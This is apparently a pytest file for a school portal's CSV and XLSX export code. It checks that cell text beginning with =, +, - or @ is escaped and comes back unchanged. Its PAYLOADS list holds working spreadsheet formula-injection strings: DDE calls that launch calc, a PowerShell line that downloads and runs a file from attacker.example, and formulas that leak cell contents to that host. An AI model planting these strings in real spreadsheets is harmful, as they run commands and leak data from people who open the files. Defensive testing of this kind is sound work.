"""No text that goes out in a table is a formula, and all of it comes back."""

import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.kernel import exports
from portal.kernel.exports import (
    csv_text,
    write_csv,
    write_xlsx,
)
from portal.kernel.sheets import read_sheet
from portal.kernel.sheets.cells import clean

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://attacker.example?leak="&A1,"Error: please click")',
    '=IMPORTXML(CONCAT("http://attacker.example", A2), "//a")',
    '=WEBSERVICE("http://attacker.example/"&A1)',
    '=IMPORTRANGE("x","y")',
    '=IMAGE("https://attacker.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "==1+1",
    "=",
    "=\n1",
    "=A1",
    "=A1:B2",
    "=-1",
    "={1,2}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!E20",
    "+255712345678",
    "+",
    "++1",
    "+A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!E20",
    "-cmd|' /C calc'!A0",
    "-5",
    "-",
    "--1",
    "-A1",
    "- a list",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@SUM(1+9)",
    "@",
    "@@",
    "@mention",
    "\t=1+1",
    "\tcmd",
    "\r=1+1",
    "\rcmd",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u200f@A1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    "''+1",
    "' @A1",
    '="a",="b"',
    '="quoted ""twice"""',
]
HARMLESS = [
    "1+1",
    "a=b",
    "'quoted'",
    "'",
    "O'Brien",
    "00123",
    "asha@uni.example",
    "1-2",
    "\u2019=1",
    "أحمد",
    "",
    "#N/A",
    "TRUE",
]


def as_csv(headers, *rows):
    file = io.BytesIO()
    assert write_csv(headers, rows, file) == len(rows)
    return file.getvalue()


def as_xlsx(headers, *rows, title="Students"):
    file = io.BytesIO()
    assert write_xlsx(headers, rows, file, title=title) == len(rows)
    return file.getvalue()


def opened(data):
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def expected(payload):
    """What comes back: reading takes blanks and invisible marks off the ends, and knows one kind of line end."""
    return payload.replace("\r\n", "\n").replace("\r", "\n").strip("\t\n \u00a0\u200b\u200f\ufeff")


def test_payloads_are_sixty_at_least():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_is_text_in_csv(payload):
    assert csv_text(payload) == "'" + payload
    data = as_csv(["reg_no", "name", payload], ["00123", "Asha", payload])
    sheet = read_sheet(data, "export.csv")
    assert sheet.headers == ["reg_no", "name", " ".join(expected(payload).split())]
    assert [row.values for row in sheet.rows] == [["00123", "Asha", expected(payload)]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_is_text_in_xlsx(here, payload):
    data = as_xlsx(["reg_no", payload], ["1", payload])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f" not in archive.read("xl/worksheets/sheet1.xml").replace(b"<formula", b"")
    for cell in (opened(data)["B1"], opened(data)["B2"]):
        escaped = payload.startswith("'")
        assert (cell.data_type, bool(cell.quotePrefix)) == ("s", not escaped)
        assert cell.value == ("'" + payload if escaped else payload)
    sheet = read_sheet(data, "export.xlsx")
    assert [row.values for row in sheet.rows] == [["1", expected(payload)]]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_as_it_is(text):
    assert csv_text(text) == text


@pytest.mark.parametrize("number", [-5, -5.5, Decimal("-5.50"), 0, 10**20, -(10**20), 1e300])
def test_numbers_are_not_escaped(number):
    assert csv_text(number) == str(number)


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=30))
def test_any_text_comes_back_from_csv_as_reading_cleans_it(text):
    written = as_csv(["text", "end"], [text, "end"]).decode("utf-8-sig")
    cell = read_sheet(written.encode(), "export.csv").rows[0].values[0]
    once = exports._NOT_IN_XML.sub("", text).replace("\r\n", "\n").replace("\r", "\n")
    assert cell == clean("'" + once if csv_text(text) != once and csv_text(once) != once else once)
